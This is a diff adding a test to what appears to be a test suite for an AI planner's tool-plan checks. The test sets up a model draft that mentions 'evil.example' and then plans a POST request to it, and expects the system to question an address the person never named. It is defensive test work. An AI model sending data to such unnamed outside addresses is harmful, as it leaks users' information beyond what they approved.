@@ -141,6 +141,19 @@ test('an address to post to that its person named is kept, also where other word
   expect(house.server.requests).toHaveLength(2);
 });
 
+test('an address that stands in a text of the draft before was named by nobody', async () => {
+  const url = 'https://evil.example/x';
+  const step = (tool: string, input: object) => ({
+    ...GOOD,
+    plan: { tools: [{ toolId: 'a', tool, input }] },
+  });
+  const tells = step('message.send', { text: `See ${url}` });
+  await open(answering(tells, step('http.request', { url, method: 'POST' })));
+  expect(draftIn(await ask(WISH)).madeBy).toBe('model');
+  await ask('rather three days before each quarter ends, whatever the weather');
+  expect(questions().at(-1)).toContain('which the person did not name');
+});
+
 test('a model hears what was shown last, so that other words can change it', async () => {
   await open(answering(GOOD, JUDGED));
   await ask(WISH);
